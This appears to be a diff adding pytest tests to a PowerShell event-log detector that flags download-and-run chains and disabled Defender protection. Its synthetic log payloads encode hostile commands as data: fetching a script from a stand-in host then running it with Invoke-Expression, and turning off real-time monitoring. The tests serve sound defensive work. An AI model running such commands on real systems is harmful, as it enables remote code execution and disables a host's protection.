@@ -74,6 +74,56 @@ def test_parts_of_a_script_block_are_read_together() -> None:
     assert [f.facts["signs"] for f in found] == ["download-run"]
 
 
+def pipeline(
+    number: int, sequence: int, payload: str, german: bool = False
+) -> tuple[EventKind, str, dict[str, object]]:
+    """One 4103 event, its context as Windows PowerShell 5.1 lays it out."""
+    said = [
+        ("Severity", "Informational"), ("Host Name", "ConsoleHost"), ("Host Version", "5.1.17763.1"),
+        ("Host ID", "1f0c3f1e-5b77-4c6f-9df0-6c2a5e0a1b11"), ("Host Application", "C:\\Windows\\System32\\powershell.exe"),
+        ("Engine Version", "5.1.17763.1"), ("Laufbereichs-ID" if german else "Runspace ID", "7d0ad9b5-52b2-4b0f-8a53-8a2b5f1f7a02"),
+        ("Pipeline-ID" if german else "Pipeline ID", str(number)), ("Command Name", "x"), ("Command Type", "Cmdlet"),
+        ("Script Name", ""), ("Command Path", ""), ("Sequenznummer" if german else "Sequence Number", str(sequence)),
+        ("User", "CORP\\web"), ("Connected User", ""), ("Shell ID", "Microsoft.PowerShell"),
+    ]  # fmt: skip
+    context = "".join(f"        {name} = {value}\r\n" for name, value in said)
+    own = {"user": "CORP\\web", "event_code": "4103", "Payload": payload, "ContextInfo": context}
+    return EventKind.LOG_MESSAGE, "2026-03-02 03:00:00", own
+
+
+def invoked(command: str, **bound: str) -> str:
+    lines = [f'CommandInvocation({command}): "{command}"']
+    return "\r\n".join([*lines, *(f'ParameterBinding({command}): name="{n}"; value="{v}"' for n, v in bound.items())])
+
+
+def modules(*rows: tuple[EventKind, str, dict[str, object]]) -> list[Finding]:
+    return list(registry.run(powershell_script, MemoryEvents().say("windows.eventlog", "/P.evtx", *rows), Settings()))
+
+
+@pytest.mark.parametrize("german", [False, True])
+def test_the_events_of_one_pipeline_are_read_together(german: bool) -> None:
+    first = invoked("Invoke-WebRequest", Uri="http://198.51.100.7/a.ps1", UseBasicParsing="True")
+    later = invoked("Invoke-Expression", Command="$x")
+    (found,) = modules(
+        pipeline(12, 18, later, german),
+        pipeline(12, 16, first, german),
+        pipeline(13, 20, invoked("Out-Default"), german),
+    )
+    assert "download-run" in str(found.facts["signs"])
+    assert {c.claims["Payload"] for c in found.spans} == {first, later}
+
+
+def test_events_of_different_pipelines_are_not_read_as_one() -> None:
+    first = invoked("Invoke-WebRequest", Uri="http://198.51.100.7/agent.msi", OutFile="agent.msi")
+    assert modules(pipeline(12, 16, first), pipeline(14, 22, invoked("Invoke-Expression", Command="Get-Date"))) == []
+
+
+def test_parameters_that_a_module_log_binds_count_as_typed() -> None:
+    (found,) = modules(pipeline(3, 2, invoked("Set-MpPreference", DisableRealtimeMonitoring="True")))
+    assert "protection-off" in str(found.facts["signs"])
+    assert modules(pipeline(3, 2, invoked("Get-MpPreference"))) == []
+
+
 @pytest.mark.parametrize(
     "script",
     [
